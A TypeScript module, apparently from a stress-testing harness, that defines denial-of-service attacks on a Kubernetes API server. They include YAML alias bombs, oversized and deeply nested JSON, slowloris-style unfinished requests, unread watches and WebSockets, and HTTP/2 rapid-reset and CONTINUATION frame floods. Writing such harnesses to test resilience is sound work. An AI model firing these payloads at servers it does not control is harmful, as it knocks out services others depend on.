/**
 * The attacks: what is done, how often, and how much of it is kept open. Rates are low on purpose. What counts is what one
 * hostile request can cost, not how many of them fill two processors.
 */
import type { ClientHttp2Session } from 'node:http2'
import { type Asked, ask, frames, type Held, session, statusOf, type Target, tcp, tls } from './target.ts'

export interface Attack {
  readonly name: string
  readonly perSecond: number
  /** Connections or streams that are kept open; beyond it the oldest is let go. */
  readonly heldMax?: number
  /** One time. Resolves with what came of it, for the table, or with what stays open. */
  hit(target: Target, count: number, shared: Shared): Promise<string | Held | undefined>
}

/** Sessions that several hits go over, made when they are first needed and again when they are closed. */
export interface Shared {
  session(name: string): ClientHttp2Session
}

export function createShared(target: Target): Shared & { close(): void } {
  const open = new Map<string, ClientHttp2Session>()
  return {
    session(name) {
      let found = open.get(name)
      if (!found || found.closed || found.destroyed) {
        found = session(target)
        open.set(name, found)
      }
      return found
    },
    close() {
      for (const one of open.values()) one.destroy()
    },
  }
}

const json = 'application/json'
const maps = ({ namespace }: Target): string => `/api/v1/namespaces/${namespace}/configmaps`
const roles = ({ namespace }: Target): string => `/apis/rbac.authorization.k8s.io/v1/namespaces/${namespace}/roles`

/** A request that is sent whole, and whose answer is read. */
const request = (name: string, perSecond: number, asked: (target: Target, count: number) => Asked): Attack => ({
  name,
  perSecond,
  hit: (target, count, shared) => statusOf(ask(shared.session('requests'), asked(target, count))),
})

/** Frames on a connection of their own, of which nothing is read. */
const flood = (name: string, perSecond: number, of: () => Buffer[]): Attack => ({
  name,
  perSecond,
  heldMax: 20,
  async hit(target) {
    const socket = await tls(target, 'h2')
    socket.pause()
    socket.write(Buffer.concat([frames.preface, ...of()]))
    return socket
  },
})

const repeated = <T>(count: number, of: (i: number) => T): T[] => Array.from({ length: count }, (_, i) => of(i))

/** Each level names the one before nine times: nine to the tenth values. */
const laughs = (): string =>
  repeated(10, (i) => `l${i}: &l${i} [${i === 0 ? 'x' : repeated(9, () => `*l${i - 1}`).join(', ')}]`).join('\n')
const mergeKeys = (): string =>
  repeated(30, (i) => `m${i}: &m${i}\n  <<: [${i === 0 ? '{a: b}' : `*m${i - 1}, *m${i - 1}`}]\n  k${i}: v`).join('\n')

const write = (name: string, perSecond: number, contentType: string, body: (count: number) => string): Attack =>
  request(name, perSecond, (target, count) => ({
    method: 'POST',
    path: maps(target),
    token: target.token,
    contentType,
    body: body(count),
  }))

export const attacks: readonly Attack[] = [
  request('invented paths', 15, (_, count) => ({ path: `/apis/group${count}/v1/things${count}/${'x'.repeat(8_000)}` })),
  request('paths of slashes', 2, () => ({ path: `/api/v1${'/'.repeat(60_000)}` })),
  request('timeouts of many digits', 5, () => ({ path: `/api?timeout=${'1'.repeat(16_000)}x` })),
  request('tokens of 64 kB', 8, () => ({ path: '/api', token: 'a'.repeat(64 * 1024) })),
  request('2,500 header fields', 4, () => ({
    path: '/api',
    headers: { 'x-many': repeated(2_500, (i) => `value-${i}`) },
  })),
  request('500 groups to impersonate', 4, ({ token }) => ({
    path: '/api',
    token,
    headers: { 'impersonate-user': 'x', 'impersonate-group': repeated(500, (i) => `a-long-name-of-a-group-${i}`) },
  })),
  request('selectors of many terms', 4, (target, count) => ({
    path: `${maps(target)}?labelSelector=${repeated(500, (i) => `!k${i}x${count}`).join(',')}`,
    token: target.token,
  })),
  write('YAML of aliases', 3, 'application/yaml', laughs),
  write('YAML of merge keys', 3, 'application/yaml', mergeKeys),
  write('duplicate keys', 3, json, () => `{${repeated(30_000, () => '"a":1').join(',')}}`),
  write('deep nesting', 3, json, () => `{"data":${'['.repeat(9_000)}${']'.repeat(9_000)}}`),
  write('a million small values', 1, json, () => `{"metadata":{"name":"x"},"data":[${repeated(500_000, () => '{}')}]}`),
  request('roles that multiply out', 1, (target, count) => ({
    method: 'POST',
    path: roles(target),
    token: target.token,
    contentType: json,
    body: JSON.stringify({
      metadata: { name: `huge-${count}` },
      rules: [
        {
          apiGroups: repeated(300, (i) => `g${i}`),
          resources: repeated(300, (i) => `r${i}`),
          verbs: repeated(300, (i) => `v${i}`),
        },
      ],
    }),
  })),
  {
    name: 'silent TCP connections',
    perSecond: 20,
    heldMax: 2_000,
    hit: async (target) => tcp(target),
  },
  {
    name: 'silent TLS connections',
    perSecond: 6,
    heldMax: 500,
    hit: (target, count) => tls(target, count % 2 === 0 ? 'h2' : 'http/1.1'),
  },
  {
    name: 'headers without an end',
    perSecond: 4,
    heldMax: 200,
    async hit(target) {
      const socket = await tls(target, 'http/1.1')
      socket.write('GET /api HTTP/1.1\r\nhost: x\r\n')
      const trickle = setInterval(() => socket.writable && socket.write('a: b\r\n'), 1_000)
      socket.on('close', () => clearInterval(trickle))
      return socket
    },
  },
  {
    name: 'bodies without an end',
    perSecond: 10,
    heldMax: 400,
    async hit(target, count, shared) {
      const stream = ask(shared.session(`bodies ${count % 5}`), {
        method: 'POST',
        path: maps(target),
        token: target.token,
        contentType: json,
      })
      stream.write(`{"data":{"a":"${'x'.repeat(100_000)}`)
      return stream
    },
  },
  {
    name: 'watches that nobody reads',
    perSecond: 5,
    heldMax: 300,
    async hit(target, count, shared) {
      return ask(shared.session(`watches ${count % 5}`), { path: `${maps(target)}?watch=1`, token: target.token })
    },
  },
  {
    name: 'WebSockets that nobody reads',
    perSecond: 2,
    heldMax: 100,
    async hit(target) {
      const socket = await tls(target, 'http/1.1')
      socket.pause()
      socket.write(
        `GET ${maps(target)}?watch=1 HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${target.token}\r\n` +
          'connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n' +
          'sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
      )
      return socket
    },
  },
  {
    name: 'lists that nobody reads',
    perSecond: 2,
    heldMax: 100,
    async hit(target, count, shared) {
      const path = `${maps(target)}?limit=${10_000 + count}`
      return ask(shared.session(`lists ${count % 5}`), { path, token: target.token })
    },
  },
  flood('rapid resets', 0.5, () => repeated(2_500, (i) => [frames.request(2 * i + 1), frames.reset(2 * i + 1)]).flat()),
  flood('CONTINUATION without an end', 1, () => [frames.openHeader(1), ...repeated(500, () => frames.continuation(1))]),
  flood('SETTINGS', 1, () => repeated(2_000, () => frames.settings)),
  flood('PING', 1, () => repeated(2_000, () => frames.ping)),
  flood('PRIORITY', 1, () => repeated(2_000, (i) => frames.priority(2 * i + 1))),
]
